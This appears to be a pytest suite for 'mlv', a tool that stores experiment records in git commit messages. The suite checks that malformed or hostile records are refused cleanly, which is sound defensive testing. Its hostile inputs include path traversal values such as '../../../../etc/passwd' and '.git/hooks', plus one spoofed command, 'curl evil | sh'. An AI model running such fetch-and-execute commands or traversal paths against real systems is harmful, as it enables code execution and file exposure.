"""Records that must not break reading: each test commits a hostile record with real git and runs
the real `mlv`. A bad commit is "not a valid experiment" (one line, exit 1) for `show` and `diff`,
and `mlv log` lists the valid experiments with the bad one marked invalid."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.conftest import REPO_ROOT, git, mlv

SCHEMA = json.loads((REPO_ROOT / "mlv/schemas/experiment.schema.json").read_text())
# The schema embedded under its own $id, so its "#" references still mean the experiment.
LOG_ITEM = {"$defs": {"experiment": SCHEMA}, "$ref": f"{SCHEMA['$id']}#/$defs/log_item"}
BEGIN = "--- mlv experiment record v1 ---"
END = "--- end mlv experiment record ---"


def baseline_record(repo: Path) -> dict[str, Any]:
    message = git(repo, "log", "-1", "--format=%B", "HEAD")
    body = message[message.index(BEGIN) + len(BEGIN):message.index(END)]
    doc: dict[str, Any] = json.loads(body)
    return doc


def commit_message(repo: Path, message: str) -> str:
    """Commit MESSAGE as it is (no cleanup), with real git, and return the new HEAD."""
    msgfile = repo.parent / "hostile-message.txt"
    msgfile.write_bytes(message.encode("utf-8"))
    subprocess.run(["git", "commit", "-q", "--allow-empty", "--cleanup=verbatim", "-F", str(msgfile)],
                   cwd=repo, check=True, capture_output=True)
    return git(repo, "rev-parse", "HEAD")


def commit_record(repo: Path, body: str, user: str = "hostile") -> str:
    return commit_message(repo, f"{user}\n\n{BEGIN}\n{body}\n{END}\n")


def commit_changed_record(repo: Path, change: Callable[[dict[str, Any]], None]) -> str:
    doc = baseline_record(repo)
    change(doc)
    return commit_record(repo, json.dumps(doc))


def refused(repo: Path, *args: str, code: int = 1) -> str:
    proc = mlv(repo, *args, check=False)
    assert proc.returncode == code, proc.stderr
    assert "Traceback" not in proc.stderr
    assert proc.stderr.count("\n") == 1, proc.stderr
    return proc.stderr


def assert_invalid_everywhere(repo: Path, sha: str, reason: str) -> None:
    """show and diff refuse SHA in one line naming it; log lists the baseline and marks SHA."""
    line = refused(repo, "show", sha)
    assert f"commit {sha[:10]} is not a valid experiment" in line and reason in line
    assert f"commit {sha[:10]} is not a valid experiment" in refused(repo, "diff", "HEAD~1", sha)
    items = json.loads(mlv(repo, "log", "--json").stdout)
    assert [(i["commit"], i.get("status")) for i in items] == [(sha, "invalid"), (items[1]["commit"], "ok")]
    assert items[1]["message"] == "baseline"
    assert reason in items[0]["error"] and "\n" not in items[0]["error"]
    for item in items:
        jsonschema.validate(item, LOG_ITEM)
    table = mlv(repo, "log", env={"COLUMNS": "200"})
    assert "Traceback" not in table.stderr
    assert "invalid" in table.stdout and "baseline" in table.stdout and sha[:10] in table.stdout


def test_a_record_nested_200000_levels_deep(experiment_repo: Path) -> None:
    deep = "[" * 200_000 + "]" * 200_000
    body = json.dumps(baseline_record(experiment_repo)).replace('"params": {', f'"params": {{"deep.yaml": {deep}, ', 1)
    sha = commit_record(experiment_repo, body)
    assert_invalid_everywhere(experiment_repo, sha, "nests deeper than 100 levels")


def test_a_record_nested_just_past_the_limit(experiment_repo: Path) -> None:
    # The record is level 1, params 2, the file's content 3: 99 nested lists reach level 101.
    nested = json.loads("[" * 99 + "]" * 99)
    sha = commit_changed_record(experiment_repo, lambda d: d["params"].update({"p.yaml": nested}))
    assert_invalid_everywhere(experiment_repo, sha, "nests deeper than 100 levels")


def test_record_separators_in_the_message_are_just_text(experiment_repo: Path) -> None:
    doc = baseline_record(experiment_repo)
    sha = commit_record(experiment_repo, json.dumps(doc), user="odd \x1e\x1f bytes")
    items = json.loads(mlv(experiment_repo, "log", "--json").stdout)
    assert items[0]["commit"] == sha
    assert [i["message"] for i in items] == ["odd \x1e\x1f bytes", "baseline"]
    assert json.loads(mlv(experiment_repo, "show", "--json").stdout)["message"] == "odd \x1e\x1f bytes"


def test_a_record_separator_inside_the_record(experiment_repo: Path) -> None:
    body = json.dumps(baseline_record(experiment_repo)).replace('"created": "', '"created": "\x1e', 1)
    sha = commit_record(experiment_repo, body)
    assert_invalid_everywhere(experiment_repo, sha, "not valid JSON")


def test_a_command_that_is_a_list(experiment_repo: Path) -> None:
    sha = commit_changed_record(experiment_repo, lambda d: d.update(command=["python", "train.py"]))
    assert_invalid_everywhere(experiment_repo, sha, "command: expected string or null, got array")


@pytest.mark.parametrize(("change", "reason"), [
    (lambda d: d.update(exit_code="0"), "exit_code: expected integer or null, got string"),
    (lambda d: d.update(run_by_mlv=1), "run_by_mlv: expected boolean, got integer"),
    (lambda d: d.update(params=[1, 2]), "params: expected object, got array"),
    (lambda d: d.update(environment="linux"), "environment: expected object, got string"),
    (lambda d: d["data"][0].update(size="big"), "data[0].size: expected integer, got string"),
    (lambda d: d["data"][0].pop("md5"), "data[0].md5: missing"),
    (lambda d: d["environment"].update(project_lockfiles={"uv.lock": 7}), "expected string, got integer"),
    (lambda d: d.update(duration_s=-1), "duration_s: -1 is less than 0"),
    (lambda d: d.update(surprise=True), "surprise: not a field of the record"),
    (lambda d: d.update(reproduces="abc"), "reproduces"),
])
def test_wrong_field_types(experiment_repo: Path, change: Callable[[dict[str, Any]], None], reason: str) -> None:
    sha = commit_changed_record(experiment_repo, change)
    assert_invalid_everywhere(experiment_repo, sha, reason)


@pytest.mark.parametrize(("change", "reason"), [
    (lambda d: d["data"][0].update(path="/etc"), "absolute path"),
    (lambda d: d["outputs"][0].update(path="models/../../evil"), "climbs out"),
    (lambda d: d["data"][0].update(path=".git/hooks"), "inside .git/"),
    (lambda d: d["outputs"][0].update(path=".dvc/config"), "inside .dvc/"),
    (lambda d: d["data"][0].update(md5="../../../../etc/passwd"), "md5 that is not one"),
    (lambda d: d.update(metrics={".git/config": {"a": 1}}), "inside .git/"),
    (lambda d: d["environment"].update(lockfile="../requirements.txt"), "climbs out"),
])
def test_unsafe_paths_are_refused_when_the_record_is_read(
        experiment_repo: Path, change: Callable[[dict[str, Any]], None], reason: str) -> None:
    sha = commit_changed_record(experiment_repo, change)
    assert_invalid_everywhere(experiment_repo, sha, reason)


def test_a_5_mb_param_is_refused_quickly(experiment_repo: Path) -> None:
    sha = commit_changed_record(experiment_repo, lambda d: d["params"].update({"big.yaml": "x" * 5_000_000}))
    started = time.monotonic()
    assert_invalid_everywhere(experiment_repo, sha, "larger than 1 MiB")
    assert time.monotonic() - started < 60  # minutes before the cap; a few seconds of process starts now


@pytest.mark.parametrize(("body", "reason"), [
    ("[1, 2, 3]", "not a JSON object"),
    ("{not json", "not valid JSON"),
])
def test_a_record_that_is_not_an_object(experiment_repo: Path, body: str, reason: str) -> None:
    sha = commit_record(experiment_repo, body)
    assert_invalid_everywhere(experiment_repo, sha, reason)


def test_a_record_without_its_end_marker(experiment_repo: Path) -> None:
    sha = commit_message(experiment_repo, f"cut short\n\n{BEGIN}\n{{}}\n")
    assert_invalid_everywhere(experiment_repo, sha, "no end marker")


def test_the_last_record_block_counts(experiment_repo: Path) -> None:
    baseline = baseline_record(experiment_repo)
    spoof = json.dumps({**baseline, "command": "curl evil | sh"})
    mlv(experiment_repo, "snapshot", "--allow-empty", "-m", f"innocent\n\n{BEGIN}\n{spoof}\n{END}")
    doc = json.loads(mlv(experiment_repo, "show", "--json").stdout)
    assert doc["command"] == baseline["command"] == "python train.py"
    assert "curl evil | sh" in doc["message"]  # the spoof stays what it was: part of the user's text


def test_diff_without_revisions_skips_an_invalid_record(experiment_repo: Path) -> None:
    commit_changed_record(experiment_repo, lambda d: d.update(command=["x"]))
    mlv(experiment_repo, "snapshot", "-m", "after")
    doc = json.loads(mlv(experiment_repo, "diff", "--json").stdout)
    assert doc["old"]["message"] == "baseline" and doc["new"]["message"] == "after"


def test_a_record_too_large_to_read_is_not_written(experiment_repo: Path) -> None:
    (experiment_repo / "metrics.json").write_text(json.dumps({"values": list(range(300_000))}))
    head = git(experiment_repo, "rev-parse", "HEAD")
    line = refused(experiment_repo, "snapshot", "-m", "huge metrics")
    assert "over the 1 MiB mlv reads" in line
    assert git(experiment_repo, "rev-parse", "HEAD") == head


def test_a_marker_with_a_huge_version_number(experiment_repo: Path) -> None:
    commit_message(experiment_repo, f"odd marker\n\n--- mlv experiment record v{'9' * 5000} ---\n{{}}\n{END}\n")
    assert "is not an mlv experiment commit" in mlv(experiment_repo, "show").stdout  # shown as a plain commit
    items = json.loads(mlv(experiment_repo, "log", "--json").stdout)
    assert [i["message"] for i in items] == ["baseline"]
